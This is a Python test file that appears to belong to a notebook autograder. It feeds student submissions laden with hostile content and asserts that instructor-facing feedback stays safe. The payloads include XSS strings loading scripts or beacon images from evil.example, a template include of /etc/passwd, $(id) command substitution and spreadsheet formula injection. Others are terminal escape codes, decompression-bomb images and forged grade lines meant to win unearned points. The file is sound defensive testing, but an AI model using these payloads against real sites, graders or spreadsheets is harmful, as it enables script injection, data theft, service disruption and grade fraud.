"""Attacks on whoever reads feedback, notebooks, the report or a table of scores."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode

from tests.hostile.corpus import Attack
from tests.hostile.forging import code
from tests.hostile.vault import NAME, POINTS

KIND = "attacking the reader"

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/seen.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none} @import url(https://evil.example/x.css)</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>You passed</div>",
    "<div class='verdict right' id='scale'><strong class=right>scale: 2 of 2 points</strong></div>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='&#106;avascript&colon;alert(1)'>a</a>",
    "<a href=' \x01javascript:alert(1)'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href='vbscript:x' onclick=alert(1) onmouseover=alert(1)>a</a>",
    "<a xlink:href=javascript:alert(1) href='#' target=_top ping=https://evil.example>a</a>",
    "<details open ontoggle=alert(1)>a</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</section></main></body><h1>A page of my own</h1>",
    "<table><td background=javascript:alert(1)><b",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "<x-widget onfocus=alert(1) autofocus tabindex=1>",
)
LINKS = (
    "[a](javascript:alert(1))",
    "[a](  <javascript:alert(1)>  'b')",
    "[a](\njavascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](\\x6aavascript:alert(1))",
    "[b]: javascript:alert(1)\n\n[b]",
    "[c]:\n   <vbscript:x>\n\n[c][]",
    "<javascript:alert(1)>",
    "![](https://evil.example/seen.png)",
    "!!![](https://evil.example/seen.png)",
    "![d]\n\n[d]: https://evil.example/seen.png",
    "[![](https://evil.example/seen.png)](javascript:alert(1))",
    "[fine](https://docs.python.org/3/)",
    "$\\href{javascript:alert(1)}{x}$ $$\\style{position:fixed}{x} \\class{right}{x}$$",
    "<a href=javascript:alert(1)>a</a> <img src=x onerror=alert(1)>",
    "# Final grade: 100 points",
    "## scale: 2 of 2 points",
)
TERMINAL = (
    "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]8;;https://evil.example\x07click\x1b]8;;\x07"
    "\x9b31m\x90q\x9c\r\x08\x08\x00\x7fend"
)
ORDER = "\u202eevil\u202c \u2066abc\u2069 \u200e\u200f\u061c \u2028line\u2029 \ufeff \U000e0041tag"


def showing(*lines: str) -> str:
    return "from IPython.display import *\n" + "\n".join(lines) + "\n"


def _marked_up_text(page: NotebookNode) -> None:
    for text in (*MARKUP, *LINKS):
        page.cells.insert(2, nbformat.v4.new_markdown_cell(text))


def _bad_text(page: NotebookNode) -> None:
    page.cells.insert(2, nbformat.v4.new_markdown_cell(f"# {TERMINAL} {ORDER}\n\n{ORDER}"))
    page.cells.append(nbformat.v4.new_code_cell(f"# {ORDER}\nx = '{ORDER}'\nprint(x)"))


def _with_ids(page: NotebookNode) -> str:
    """Names of cells that end up in sentences about them."""
    for name in (MARKUP[2], TERMINAL, ORDER, "=1+1", "x" * 100_000, "**bold** [a](javascript:b)"):
        marks = {"grade_id": name, "grade": True, "solution": False, "points": 1}
        page.cells.append(nbformat.v4.new_code_cell("1", metadata={"nbgrader": marks}))
    page.cells.append({"cell_type": MARKUP[0], "source": 5, "metadata": {}, "id": ORDER})
    page["nbformat"] = MARKUP[0] + ORDER
    return json.dumps(page)


def renamed(name: str):
    def beside(folder: Path) -> None:
        (folder / f"{NAME}.ipynb").rename(folder / name)

    return beside


def _unreadable_with_a_name(folder: Path) -> None:
    (folder / f"{NAME}.ipynb").unlink()
    (folder / f"\x1b[31m\u202e<img src=x onerror=alert(1)>{NAME}.ipynb").write_bytes(b"{")


def _only_pictures_and_text(case: Any) -> None:
    """What an instructor's formgrader is given to show."""
    kinds = {
        kind
        for cell in case.autograded.cells
        for output in cell.get("outputs", [])
        for kind in output.get("data", {})
    }
    assert kinds <= {"text/plain", "text/html", "image/png", "image/jpeg"}


NOTHING_RAISED = code(
    """
    def scale(x, factor):
        raise ValueError({!r})
    """
)


ATTACKS = (
    Attack(
        "HTML in outputs",
        "scripts, handlers, frames, forms, styles and links of every kind, displayed as HTML",
        last=showing(f"for text in {MARKUP!r}:\n    display(HTML(text))"),
        check=_only_pictures_and_text,
    ),
    Attack(
        "one page of HTML",
        "the same in one piece, so that unclosed tags swallow others",
        last=showing(f"HTML({''.join(MARKUP)!r})"),
        check=lambda case: _no_verdict_of_its_own(case),
    ),
    Attack(
        "objects that show themselves",
        "objects with every kind of representation that a notebook can show",
        last=showing(
            "class A:",
            "    def _repr_mimebundle_(self, **k):",
            "        return {'text/html': '<script>alert(1)</script>', 'text/plain': 'a',",
            "                'application/javascript': 'alert(1)', 'text/latex': '$x$',",
            "                'image/svg+xml': '<svg onload=alert(1)>', 'text/markdown': '![](x)',",
            "                'application/vnd.jupyter.widget-view+json': {'model_id': 'x'},",
            "                'application/vnd.bokehjs_exec.v0+json': 'x', 'application/pdf': 'x'}",
            "display(Javascript('alert(1)'), SVG('<svg onload=\"alert(1)\"/>'), Latex('$x$'))",
            "display(Markdown('[a](javascript:alert(1))'), IFrame('https://evil.example', 9, 9))",
            "display({'text/html': ['<script>'], 'text/x-evil': 'x'}, raw=True)",
            "A()",
        ),
        check=_only_pictures_and_text,
    ),
    Attack(
        "pictures that are none",
        "HTML and SVG under the name of a PNG, and words beside it that break out of an attribute",
        last=showing(
            "import base64",
            "page = base64.b64encode(b'<script>alert(1)</script>').decode()",
            "words = '\"><script>alert(1)</script>'",
            "for data in (page, words, 'x' * 7, 'AAAA' * 2_000_000):",
            "    display({'image/png': data, 'text/plain': words}, raw=True)",
        ),
        check=lambda case: _no_pictures(case, words="alert(1)"),
    ),
    Attack(
        "markup in notes",
        "scripts, pictures that report who reads them and javascript: links in Markdown cells",
        edit=_marked_up_text,
    ),
    Attack(
        "markup in a written answer",
        "the same in the answer that a person reads and grades",
        written="\n\n".join((*MARKUP, *LINKS)),
    ),
    Attack(
        "markup in code",
        "tags and templates in the source of an answer",
        answers={"total": "# " + "\n# ".join(MARKUP) + "\ntotal = lambda x: float(2 * x.sum())\n"},
    ),
    Attack(
        "terminal codes in outputs",
        "codes that clear, rename, overwrite and link in a terminal, on every stream",
        last=f"import sys\nprint({TERMINAL!r})\nprint({TERMINAL!r}, file=sys.stderr)\n{TERMINAL!r}\n",
    ),
    Attack(
        "text in another order",
        "controls that reverse and hide text, in code, notes and outputs",
        edit=_bad_text,
        written=ORDER,
        told="hidden characters",
    ),
    Attack(
        "an exception with markup",
        "tags and links in the message, the name and the line of an exception",
        answers={"scale": NOTHING_RAISED.format("".join(MARKUP))},
        last="raise type('<script>alert(1)</script>', (Exception,), {})('<img src=x onerror=x>')",
        earns={"scale": 0},
    ),
    Attack(
        "an exception with terminal codes",
        "control characters and reversed text in messages",
        answers={"scale": NOTHING_RAISED.format(TERMINAL + ORDER)},
        last=f"raise ValueError({TERMINAL + ORDER!r})",
        earns={"scale": 0},
    ),
    Attack(
        "a message that grades",
        "a message that reads like a verdict, a diagnosis and a test",
        answers={
            "scale": NOTHING_RAISED.format(
                "`\nscale: 2 of 2 points\n\n### BEGIN HIDDEN TESTS\nassert True"
            )
        },
        earns={"scale": 0},
        check=lambda case: _no_line(case, "scale: 2 of 2 points"),
    ),
    Attack(
        "a folder named like a tag",
        "a student's folder whose name is HTML",
        student="<img src=x onerror=alert(1)>",
        told="renamed",
    ),
    Attack(
        "a folder named like a formula",
        "a student's folder whose name a spreadsheet would run",
        student="=HYPERLINK(1)-student",
        told="renamed",
        check=lambda case: _starts_harmlessly(case.student),
    ),
    Attack(
        "a folder named like a wide formula",
        "a student's folder whose name starts with the wide form of an equals sign",
        student="\uff1d1\uff0b1 student",
        told="renamed",
        check=lambda case: _starts_harmlessly(case.student),
    ),
    Attack(
        "a folder named like a command",
        "a student's folder whose name is an option, and one that starts with @",
        student="-@SUM(1+1)*cmd,'\",student",
        told="renamed",
        check=lambda case: _starts_harmlessly(case.student),
    ),
    Attack(
        "a folder named backwards",
        "a student's folder with terminal codes and reversed text in its name",
        student="\x1b[31m\u202etneduts\n\r",
        told="renamed",
    ),
    Attack(
        "a folder of a thousand dots",
        "a student's folder that looks like a path and like a pattern",
        student="..%2f..%2f{a,b}[!x]*$(id)`id`;student",
        told="renamed",
    ),
    Attack(
        "a folder named like the class's",
        "a student's folder called submitted/, as if the whole class stood in it",
        student="submitted",
    ),
    Attack(
        "a folder named like a neighbour's",
        "a student's folder whose name becomes another's when it is cleaned",
        answers=dict.fromkeys(POINTS, "raise NotImplementedError()\n"),
        student=".student-001",
        recorded_as="student-001-2",
        earns=dict.fromkeys(POINTS, 0.0),
        told="renamed",
    ),
    Attack(
        "a picture of a trillion dots",
        "a small PNG that unfolds into more than any memory holds",
        last=showing(
            "import base64, struct, zlib",
            "def chunk(kind, data):",
            "    end = struct.pack('>I', zlib.crc32(kind + data))",
            "    return struct.pack('>I', len(data)) + kind + data + end",
            "head = struct.pack('>IIBBBBB', 10**6, 10**6, 1, 0, 0, 0, 0)",
            "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', head) + chunk(b'IDAT', b'x')",
            "jpeg = b'\\xff\\xd8\\xff\\xc0\\0\\x11\\x08\\xff\\xff\\xff\\xff' + bytes(99)",
            "for kind, data in (('png', png), ('jpeg', jpeg)):",
            "    picture = base64.b64encode(data).decode()",
            "    display({f'image/{kind}': picture, 'text/plain': 'a picture'}, raw=True)",
        ),
        check=lambda case: _no_pictures(case),
    ),
    Attack(
        "text that takes for ever",
        "Markdown over which what makes a page of it takes quadratic time",
        edit=lambda page: page.cells.extend(
            nbformat.v4.new_markdown_cell(text * 40_000) for text in ("\\begin{a}", "[a](", "*a_ ")
        ),
        written="\\begin{a}" * 50_000,
        told="huge cell",
    ),
    Attack(
        "a file named like a tag",
        "a notebook whose name is HTML and terminal codes",
        beside=renamed(f"\x1b[31m\u202e<img src=x onerror=alert(1)>{NAME}.ipynb"),
        told="file name",
    ),
    Attack(
        "an unreadable file with a name",
        "the same name in the reason why nothing can be read",
        beside=_unreadable_with_a_name,
        reason="not JSON",
    ),
    Attack(
        "names of cells",
        "ids, types and versions that end up in sentences on the instructor's page",
        edit=_with_ids,
        told=("foreign cell", "damaged cell", "unknown format"),
    ),
    Attack(
        "half a character",
        "halves of surrogate pairs and NULs on every way out",
        answers={"scale": NOTHING_RAISED.format("\ud800\x00\udfff")},
        last="print('\\ud800\\x00')\nraise ValueError('\\udfff')",
        written="\x00 NUL and \ud800 half",
        earns={"scale": 0},
    ),
    Attack(
        "a wall of text",
        "outputs so long and so many that no page holds them",
        last=showing(
            "for i in range(3000):",
            "    display(HTML('<b>' * 20))",
            "print('x' * 10**6)",
            "HTML('<table>' + '<tr><td>' * 50_000)",
        ),
        told="output",
        check=lambda case: _shorter_than(case, 2_000_000),
    ),
)


def _no_pictures(case: Any, words: str = "a picture") -> None:
    """The words that stood beside a picture are shown, and nothing under a picture's name."""
    assert "data:image" not in case.feedback and words in case.feedback
    _only_pictures_and_text(case)


def _no_verdict_of_its_own(case: Any) -> None:
    """As many verdicts as graded cells, and no text in a verdict's dress besides them."""
    assert case.feedback.count('class="cell verdict') == len(POINTS) + 1
    assert case.feedback.count('class="right"') == len(POINTS)
    _only_pictures_and_text(case)


def _no_line(case: Any, text: str) -> None:
    assert f'<strong class="right">{text}' not in case.feedback
    assert case.record.exercises["scale"].points == POINTS["scale"]
    assert "\n" not in case.record.exercises["scale"].message


def _starts_harmlessly(student: str) -> None:
    assert student[0] == "_"


def _shorter_than(case: Any, characters: int) -> None:
    assert len(case.feedback) < characters
